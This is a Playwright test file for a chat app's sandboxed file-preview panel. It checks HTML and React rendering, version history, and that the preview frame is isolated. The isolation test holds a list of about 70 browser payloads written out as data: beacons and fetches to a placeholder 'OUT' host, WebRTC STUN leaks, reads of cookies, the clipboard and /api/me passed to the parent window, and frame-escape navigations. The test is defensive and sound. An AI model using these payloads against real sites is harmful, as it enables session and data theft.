import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { addModels, type Json } from '../../product.ts';
import { expectAccessible, expectAccessibleHere } from '../accessible.ts';
import { expect, test as strictTest } from '../fixtures.ts';

/** The browser reports what it refused, and here it has to refuse everything. */
const test = strictTest.extend({
  quiet: async ({ page }, use) => {
    await use(undefined);
    await page.close();
  },
});

/** Pages from models run in a frame without access to anything else. */

const file = (name: string, mimeType: string, source: string) => ({ name, mimeType, buffer: Buffer.from(source) });
const panelOf = (page: Page) => page.getByRole('complementary', { name: 'Files' });
const shown = (page: Page) => panelOf(page).frameLocator('iframe');

async function attach(page: Page, files: ReturnType<typeof file>[]): Promise<void> {
  await page.locator('[data-file-picker]').setInputFiles(files);
  const tray = page.getByRole('list', { name: 'Files in this message' });
  await expect(tray.getByRole('button', { name: /^Remove/ })).toHaveCount(files.length);
  const field = page.getByLabel('Message', { exact: true });
  await field.fill('Look');
  await field.press('Enter');
  await expect(page.locator('[data-role="assistant"][aria-busy="false"]')).toBeVisible();
}

const counter = `import { useState } from 'react';
export function Counter(): JSX.Element {
  const [count, setCount] = useState<number>(0);
  return <button onClick={() => setCount(count + 1)}>Clicked {count} times</button>;
}`;
const page1 = `<!doctype html><title>Game</title><style>h1{color:rgb(1, 2, 3)}</style><h1>Harbour</h1>
<script>document.querySelector('h1').append(' opened'); setTimeout(() => missing(), 0);</script>`;

test('runs HTML and React beside the conversation, and sends their errors to the model', async ({
  page,
  installation,
  person,
  provider,
}) => {
  await addModels(person.caller, provider, ['echo']);
  await page.goto(installation.url);
  await attach(page, [file('game.html', 'text/html', page1), file('counter.tsx', 'text/plain', counter)]);
  await page.getByRole('link', { name: 'Open counter.tsx' }).click();
  await shown(page).getByRole('button', { name: 'Clicked 0 times' }).click();
  await expect(shown(page).getByRole('button', { name: 'Clicked 1 times' })).toBeVisible();

  await page.getByRole('link', { name: 'Open game.html' }).click();
  await expect(shown(page).getByRole('heading', { name: 'Harbour opened' })).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(panelOf(page)).toContainText('missing is not defined');
  await expectAccessible(page);
  await panelOf(page).getByRole('button', { name: 'Ask the model to fix it' }).click();
  await expect(page.getByLabel('Message', { exact: true })).toHaveValue(
    /When I open game\.html[\s\S]*missing is not defined/,
  );
  await panelOf(page).getByRole('button', { name: 'Source' }).click();
  await expect(panelOf(page).locator('pre')).toContainText('<h1>Harbour</h1>');
});

test('keeps the versions of a replaced page, and opens, downloads and restores an older one', async ({
  page,
  installation,
  person,
}) => {
  const { chat } = await person.caller.must('POST', '/api/chats', {});
  const publish = async (text: string) => {
    const form = new FormData();
    form.set('chatId', chat.id);
    form.set('path', 'drawing.svg');
    form.set('onConflict', 'replace');
    const source = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="90" height="20"><text y="15">${text}</text></svg>`;
    form.set('file', new Blob([source], { type: 'image/svg+xml' }), 'drawing.svg');
    const response = await person.caller.fetch('/api/artifacts', { method: 'POST', body: form });
    const { artifact }: Json = await response.json();
    return artifact;
  };
  const { id } = await publish('first');
  await page.goto(`${installation.url}/c/${chat.id}?file=${id}`);
  await expect(shown(page).getByText('first')).toBeVisible();
  await expect(panelOf(page).getByRole('button', { name: /^Version/ })).toHaveCount(0);
  await publish('second');
  await page.reload();
  await expect(shown(page).getByText('second')).toBeVisible();
  await panelOf(page).getByRole('button', { name: 'Version 2' }).click();
  await page.getByRole('menuitem', { name: /^Version 1/ }).click();
  await expect(shown(page).getByText('first')).toBeVisible();
  await expect(panelOf(page)).toContainText('This is version 1. The current one is version 2.');
  await expectAccessibleHere(page);
  const download = page.waitForEvent('download');
  await panelOf(page).getByRole('link', { name: 'Download' }).click();
  expect(readFileSync(await (await download).path(), 'utf8')).toContain('first');
  await panelOf(page).getByRole('button', { name: 'Make it current' }).click();
  await expect(panelOf(page).getByRole('button', { name: 'Version 3' })).toBeVisible();
  await expect(shown(page).getByText('first')).toBeVisible();
});

/** Each attack tries to send a request or to reach Homeport's page; `OUT` is an address that must get no request. */
const attacks = [
  `fetch('OUT/fetch')`,
  `fetch('OUT/no-cors', { mode: 'no-cors', method: 'POST', body: 'x' })`,
  `new XMLHttpRequest().open('GET', 'OUT/xhr')`,
  `{ const x = new XMLHttpRequest(); x.open('GET', 'OUT/xhr'); x.send(); }`,
  `navigator.sendBeacon('OUT/beacon', 'x')`,
  `new WebSocket('WS/socket')`,
  `new EventSource('OUT/events')`,
  `new Image().src = 'OUT/image'`,
  `new Audio('OUT/audio').play()`,
  `document.head.append(Object.assign(document.createElement('script'), { src: 'OUT/script.js' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'OUT/style.css' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'OUT/prefetch' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: 'OUT/preload' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'OUT/icon' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'OUT/manifest' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: 'OUT/module.js' }))`,
  `import('OUT/module.js')`,
  `document.body.style.background = 'url(OUT/background)'`,
  `document.body.insertAdjacentHTML('beforeend', '<style>@import "OUT/import.css"; @font-face { font-family: f; src: url(OUT/font) } p { font-family: f }</style><p>x</p>')`,
  `document.body.insertAdjacentHTML('beforeend', '<iframe src="OUT/frame"></iframe>')`,
  `document.body.insertAdjacentHTML('beforeend', '<object data="OUT/object"></object><embed src="OUT/embed">')`,
  `document.body.insertAdjacentHTML('beforeend', '<video src="OUT/video" poster="OUT/poster"></video>')`,
  `document.body.insertAdjacentHTML('beforeend', '<svg><image href="OUT/svg"/><use href="OUT/use#a"/></svg>')`,
  `document.body.insertAdjacentHTML('beforeend', '<img srcset="OUT/srcset 1x"><picture><source srcset="OUT/source"><img></picture>')`,
  `{ const f = document.createElement('form'); f.action = 'OUT/form'; f.method = 'post'; document.body.append(f); f.submit(); }`,
  `{ const a = document.createElement('a'); a.href = 'OUT/ping'; a.ping = 'OUT/ping'; document.body.append(a); a.click(); }`,
  `{ const a = document.createElement('a'); a.href = 'OUT/blank'; a.target = '_blank'; document.body.append(a); a.click(); }`,
  `{ const a = document.createElement('a'); a.href = 'OUT/download'; a.download = 'x'; document.body.append(a); a.click(); }`,
  `window.open('OUT/open')`,
  `location = 'OUT/navigation'`,
  `location.replace('OUT/replace')`,
  `document.body.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=OUT/refresh">')`,
  `parent.location = 'OUT/parent'`,
  `top.location = 'OUT/top'`,
  `top.location.href = 'OUT/top-href'`,
  `parent.frames[0].location = 'OUT/sibling'`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("OUT/worker")'])))`,
  `new SharedWorker(URL.createObjectURL(new Blob(['fetch("OUT/shared")'])))`,
  `new Worker('data:text/javascript,importScripts("OUT/imported.js")')`,
  `navigator.serviceWorker.register('/assets/sw.js')`,
  `{ const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('OUT/inner'); }`,
  `{ const f = document.createElement('iframe'); f.srcdoc = '<img src="OUT/srcdoc">'; document.body.append(f); }`,
  `{ const f = document.createElement('iframe'); f.src = 'data:text/html,<img src="OUT/data">'; document.body.append(f); }`,
  `{ const f = document.createElement('iframe'); f.src = 'blob:null/x'; document.body.append(f); f.contentWindow.location = 'OUT/inner-navigation'; }`,
  `document.open(); document.write('<img src="OUT/written">'); document.close();`,
  `fetch('/api/me', { credentials: 'include' }).then((r) => r.text()).then((text) => parent.postMessage({ stolen: text }, '*'))`,
  `document.head.append(Object.assign(document.createElement('script'), { src: '/api/me' }))`,
  `parent.postMessage({ stolen: document.cookie }, '*')`,
  `parent.postMessage({ stolen: localStorage.length }, '*')`,
  `parent.postMessage({ stolen: sessionStorage.length }, '*')`,
  `indexedDB.open('x').onsuccess = () => parent.postMessage({ stolen: 1 }, '*')`,
  `caches.open('x').then(() => parent.postMessage({ stolen: 1 }, '*'))`,
  `parent.postMessage({ stolen: parent.document.title }, '*')`,
  `parent.postMessage({ stolen: parent.localStorage.length }, '*')`,
  `parent.postMessage({ stolen: top.location.href }, '*')`,
  `document.cookie = 'planted=1'; fetch('/api/config')`,
  `navigator.geolocation.getCurrentPosition(() => parent.postMessage({ stolen: 1 }, '*'))`,
  `navigator.mediaDevices.getUserMedia({ audio: true }).then(() => parent.postMessage({ stolen: 1 }, '*'))`,
  `navigator.clipboard.readText().then((text) => parent.postMessage({ stolen: text }, '*'))`,
  `{ const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
  `{ const f = document.createElement('iframe'); f.setAttribute('srcdoc', RTC); document.body.append(f); }`,
  `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + RTC + '"></iframe>')`,
  `{ const html = '<iframe srcdoc="' + RTC + '"></iframe>'; document.write(html.slice(0, 4)); document.write(html.slice(4)); }`,
  `{ const d = document.createElement('div').attachShadow({ mode: 'closed' }); d.innerHTML = '<iframe srcdoc="' + RTC + '"></iframe>'; document.body.append(d.host); }`,
  `{ const f = document.createElement('iframe'); document.body.append(f); f.src = 'javascript:' + INNER; }`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'OUT' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'OUT' }))`,
  `alert('stop')`,
  `document.documentElement.requestFullscreen().then(() => parent.postMessage({ stolen: 1 }, '*'))`,
];

/** So many frames try at the same time. */
const atOnce = 8;

/**
 * After the attack the page sends a request that is always refused; by then its earlier requests were refused or sent.
 */
const documentOf = (attack: string) =>
  `<body><script>onerror = onunhandledrejection = () => true;
  const over = () => fetch('/api/health').catch(() => {}).then(() => setTimeout(() => parent.postMessage({ over: 1 }, '*')));
  try { ${attack} } catch {}
  over();</script>`;

/** Frames as the client makes them, each until its attack is over; those that ended their own page get some time. */
const atTop = `if (top === window) {
  window.stolen = [];
  addEventListener('message', ({ data }) => { if (data && 'stolen' in data) window.stolen.push(data.stolen); });
  window.tryOut = (source) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.src = '/rendered.html';
    const end = () => { removeEventListener('message', listen); frame.remove(); resolve(); };
    const listen = ({ data, source: from }) => {
      if (from !== frame.contentWindow) return;
      if (data.type === 'ready') {
        from.postMessage({ kind: 'html', source, isTypeScript: false }, '*');
        setTimeout(end, 1_500);
      }
      if (data.over) end();
    };
    addEventListener('message', listen);
    document.body.append(frame);
  });
}`;

test('isolates the frame of pages from the network and from Homeport', async ({
  page,
  installation,
  person,
  provider,
}) => {
  const reached: string[] = [];
  const outside = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('');
  }).on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  const stun = createSocket('udp4').on('message', () => reached.push('stun'));
  stun.bind(0, '127.0.0.1');
  await once(stun, 'listening');
  outside.listen(0, '127.0.0.1');
  await once(outside, 'listening');
  const address = outside.address();
  const port = typeof address === 'object' ? address?.port : 0;
  await addModels(person.caller, provider, ['echo']);
  const problems: string[] = [];
  page.on('dialog', (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => problems.push(`popup: ${popup.url()}`));
  page.on('download', (download) => problems.push(`download: ${download.url()}`));
  await page.addInitScript(atTop);
  await page.goto(installation.url);
  const inner = JSON.stringify(
    `var p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
  );
  const rtc = JSON.stringify(`<script>${JSON.parse(inner)}</script>`).replace('</script', '<\\/script');
  const sources = attacks.map((attack) =>
    attack
      .replaceAll('STUN', `127.0.0.1:${stun.address().port}`)
      .replaceAll('INNER', inner)
      .replaceAll('RTC', rtc)
      .replaceAll('OUT', `http://127.0.0.1:${port}`)
      .replaceAll('WS', `ws://127.0.0.1:${port}`),
  );
  await attach(page, [file('attack.html', 'text/html', '<h1>Attack</h1>')]);
  await page.getByRole('link', { name: 'Open attack.html' }).click();
  await expect(shown(page).getByRole('heading', { name: 'Attack' })).toBeVisible();
  for (let first = 0; first < sources.length; first += atOnce) {
    await page.evaluate(
      `Promise.all(${JSON.stringify(sources.slice(first, first + atOnce).map(documentOf))}.map(tryOut))`,
    );
    const attempted = attacks.slice(first, first + atOnce);
    expect({ attempted, reached, problems }).toEqual({ attempted, reached: [], problems: [] });
    expect(page.url(), attempted.join('\n')).toContain('/c/');
  }
  expect(await page.evaluate('window.stolen')).toEqual([]);
  const cookies = await page.context().cookies();
  expect(cookies.map(({ name }) => name)).not.toContain('planted');
  outside.close();
});
